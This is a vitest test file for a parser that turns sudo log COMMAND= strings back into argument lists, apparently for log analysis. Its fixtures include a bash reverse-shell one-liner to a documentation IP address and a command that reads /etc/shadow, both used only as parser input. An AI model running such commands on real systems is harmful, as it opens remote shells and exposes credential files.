import { describe, it, expect } from 'vitest';
import { sudoArgv, MAX_SUDO_ARGS } from './sudo-command.js';

describe('sudo COMMAND= back to argv', () => {
  it('older sudo: arguments joined by single spaces', () => {
    expect(sudoArgv('/usr/bin/cat /etc/shadow')).toEqual(['/usr/bin/cat', '/etc/shadow']);
    expect(sudoArgv("/usr/bin/grep it's /etc/motd")).toEqual(['/usr/bin/grep', "it's", '/etc/motd']);
  });
  it('sudo 1.9.13+: quoted arguments with blanks, escaped blanks and quotes', () => {
    expect(sudoArgv("/usr/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'")).toEqual([
      '/usr/bin/bash',
      '-c',
      'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
    ]);
    expect(sudoArgv("/usr/bin/sh -c 'echo it\\'s here'")).toEqual(['/usr/bin/sh', '-c', "echo it's here"]);
    expect(sudoArgv('/opt/my\\ tools/run a\\ b')).toEqual(['/opt/my tools/run', 'a b']);
    expect(sudoArgv("/usr/bin/printf %s\\n don\\'t")).toEqual(['/usr/bin/printf', '%s\\n', "don't"]);
  });
  it('an unmatched quote stays literal; argument count is bounded', () => {
    expect(sudoArgv("/bin/echo 'open")).toEqual(['/bin/echo', "'open"]);
    const many = sudoArgv(`/bin/echo ${'x '.repeat(MAX_SUDO_ARGS + 10)}`.trim());
    expect(many.length).toBe(MAX_SUDO_ARGS);
    expect(many[MAX_SUDO_ARGS - 1]!.startsWith('x x')).toBe(true);
  });
});
